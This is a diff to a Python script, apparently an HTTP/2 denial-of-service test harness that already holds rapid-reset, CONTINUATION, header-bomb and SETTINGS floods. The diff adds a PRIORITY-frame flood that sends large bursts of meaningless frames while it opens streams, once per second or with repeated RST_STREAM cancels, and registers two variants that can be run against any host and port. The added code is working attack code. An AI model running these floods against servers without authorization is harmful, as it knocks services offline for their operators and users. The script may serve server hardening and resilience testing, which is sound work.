@@ -10,7 +10,7 @@ import sys
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 8, 9
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 8, 9
 END_STREAM, END_HEADERS, ACK = 1, 4, 1
 CANCEL = 8
 CONNECT_PATIENCE_S = 2
@@ -232,6 +232,37 @@ def settings_flood(host, port, seconds):
     return flooder.counts
 
 
+def paced_junk(host, port, seconds, resets, method=GENERATE):
+    """Frames that mean nothing, with a pause after every 64 KiB of them so that the socket runs empty, beside calls without a message:
+    a new one each second, or (resets) one that is reset after 256 KiB."""
+    flooder = Flooder(host, port, seconds)
+    burst = frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 16)) * 4700
+    headers = call_headers(method)
+    while not flooder.over():
+        works, stream, began = flooder.open(), 1, 0.0
+        while works:
+            if resets or time.monotonic() > began + 1:
+                works, began = flooder.send(frame(HEADERS, END_HEADERS, stream, headers)), time.monotonic()
+                stream += 2
+            for _ in range(4):
+                works = works and flooder.send(burst)
+                time.sleep(0.01)
+            if resets:
+                works = works and flooder.send(frame(RST_STREAM, 0, stream - 2, struct.pack(">I", CANCEL)))
+    flooder.close()
+    return flooder.counts
+
+
+def silent_calls(host, port, seconds):
+    """Of paced_junk, the first."""
+    return paced_junk(host, port, seconds, resets=False)
+
+
+def explained_resets(host, port, seconds):
+    """Of paced_junk, the second."""
+    return paced_junk(host, port, seconds, resets=True)
+
+
 class Windows:
     """How much a receiver lets through, of stream 1 and of the connection: who sends more is cut off."""
 
@@ -307,7 +338,7 @@ def frame_flood(host, port, seconds, message=b"\x08\x01", method=CONNECT):
 
 ALL = {"idle": idle_connections, "greeting": greeting_connections, "rapid_reset": rapid_reset,
        "continuation": continuation_flood, "header_bomb": header_bomb, "hidden_bomb": hidden_bomb,
-       "settings": settings_flood, "frame_flood": frame_flood}
+       "settings": settings_flood, "frame_flood": frame_flood, "silent_calls": silent_calls, "explained_resets": explained_resets}
 
 
 if __name__ == "__main__":  # NAME ADDRESS SECONDS, as a process of its own
